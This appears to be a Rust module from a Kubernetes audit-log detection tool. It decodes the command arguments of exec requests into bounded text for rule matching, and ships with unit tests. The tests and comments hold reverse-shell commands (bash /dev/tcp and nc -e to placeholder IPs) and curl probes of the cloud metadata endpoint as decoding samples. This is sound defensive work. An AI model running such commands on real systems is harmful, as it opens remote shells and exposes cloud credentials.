//! The command of an exec, decoded: `p_exec_command`.
//!
//! `kubectl exec POD -- sh -c 'curl http://169.254.169.254/'` reaches the
//! audit log only as the request's query string, one `command=` parameter per
//! argument, form-encoded (`command=sh&command=-c&command=curl+http%3A%2F%2F
//! 169.254.169.254%2F`). A rule that looks for `/dev/tcp/` or `nc -e` in that
//! text would have to spell every encoding. kadet decodes it once: the
//! arguments, decoded, joined by single spaces. The kubelet API reached
//! through `nodes/proxy` takes the same thing as `cmd=` (`/run`) or
//! `command=` (`/exec`). GKE entries carry no query string; there the
//! request body's `command` list is used when it was logged.

use crate::value::Value;

/// Most bytes of decoded command kept: a rule gets enough to judge, a
/// request with a megabyte of arguments does not cost a megabyte per rule.
pub const MAX_COMMAND_BYTES: usize = 8 * 1024;

/// The decoded command of an exec-like request, from an Event's
/// `requestURI` and `requestObject` members, or `None` when the event
/// carries none.
pub fn exec_command(
    request_uri: Option<&Value<'_>>,
    request_object: Option<&Value<'_>>,
) -> Option<String> {
    let from_uri = request_uri
        .and_then(Value::as_str)
        .and_then(command_from_uri);
    from_uri.or_else(|| command_from_body(request_object?))
}

fn command_from_uri(uri: &str) -> Option<String> {
    let (_, query) = uri.split_once('?')?;
    let mut out = String::new();
    let mut found = false;
    for (key, value) in url::form_urlencoded::parse(query.as_bytes()) {
        if key != "command" && key != "cmd" {
            continue;
        }
        found = true;
        if !push_argument(&mut out, &value) {
            break;
        }
    }
    found.then_some(out)
}

fn command_from_body(request_object: &Value<'_>) -> Option<String> {
    let args = request_object.get("command")?.as_array()?;
    let mut out = String::new();
    for arg in args {
        let Some(text) = arg.as_str() else { continue };
        if !push_argument(&mut out, text) {
            break;
        }
    }
    Some(out)
}

/// Appends one argument; false once the bound is reached.
fn push_argument(out: &mut String, arg: &str) -> bool {
    if !out.is_empty() {
        out.push(' ');
    }
    let room = MAX_COMMAND_BYTES.saturating_sub(out.len());
    if arg.len() <= room {
        out.push_str(arg);
        return true;
    }
    let mut cut = room;
    while !arg.is_char_boundary(cut) {
        cut -= 1;
    }
    out.push_str(&arg[..cut]);
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    fn command_of(ev: &Value<'_>) -> Option<String> {
        exec_command(ev.get("requestURI"), ev.get("requestObject"))
    }

    fn event(json: &str) -> Value<'static> {
        Value::from_slice(json.as_bytes())
            .expect("test JSON")
            .into_owned()
    }

    #[test]
    fn kubectl_exec_arguments_are_decoded_and_joined() {
        let ev = event(
            r#"{"requestURI":"/api/v1/namespaces/web/pods/f/exec?command=sh&command=-c&command=curl+-s+http%3A%2F%2F169.254.169.254%2Flatest%2F&container=app&stdin=true&tty=true"}"#,
        );
        assert_eq!(
            command_of(&ev).as_deref(),
            Some("sh -c curl -s http://169.254.169.254/latest/")
        );
    }

    #[test]
    fn percent_twenty_and_plus_are_both_spaces() {
        let ev = event(
            r#"{"requestURI":"/exec?command=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F1.2.3.4%2F4444%200%3E%261"}"#,
        );
        assert_eq!(
            command_of(&ev).as_deref(),
            Some("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1")
        );
    }

    #[test]
    fn kubelet_run_through_nodes_proxy_uses_cmd() {
        let ev = event(r#"{"requestURI":"/api/v1/nodes/n1/proxy/run/ns/p/c?cmd=id"}"#);
        assert_eq!(command_of(&ev).as_deref(), Some("id"));
    }

    #[test]
    fn gke_body_command_is_used_without_a_query() {
        let ev = event(
            r#"{"requestURI":"/api/v1/namespaces/a/pods/b/exec","requestObject":{"command":["nc","-e","/bin/sh","198.51.100.7","4444"]}}"#,
        );
        assert_eq!(
            command_of(&ev).as_deref(),
            Some("nc -e /bin/sh 198.51.100.7 4444")
        );
    }

    #[test]
    fn no_command_is_none_and_bad_escapes_do_not_fail() {
        assert_eq!(command_of(&event(r#"{"requestURI":"/api/v1/pods"}"#)), None);
        assert_eq!(command_of(&event(r#"{"verb":"get"}"#)), None);
        let ev = event(r#"{"requestURI":"/exec?command=%ZZ%&command=%E2%82"}"#);
        assert!(command_of(&ev).is_some());
    }

    proptest::proptest! {
        #[test]
        fn any_query_decodes_within_the_bound(query in ".{0,300}", reps in 1usize..60) {
            let uri = format!("/exec?{}", query.repeat(reps));
            let ev = Value::Object(crate::value::Map(vec![(
                "requestURI".into(),
                Value::from(uri.as_str()),
            )]));
            if let Some(cmd) = command_of(&ev) {
                proptest::prop_assert!(cmd.len() <= MAX_COMMAND_BYTES);
            }
        }
    }

    #[test]
    fn a_huge_command_is_cut_at_the_bound_on_a_char_boundary() {
        let arg = "é".repeat(MAX_COMMAND_BYTES);
        let uri = format!("/exec?command={arg}&command=tail");
        let ev = event(&format!(r#"{{"requestURI":"{uri}"}}"#));
        let cmd = command_of(&ev).expect("command");
        assert!(cmd.len() <= MAX_COMMAND_BYTES);
        assert!(!cmd.ends_with("tail"));
    }
}
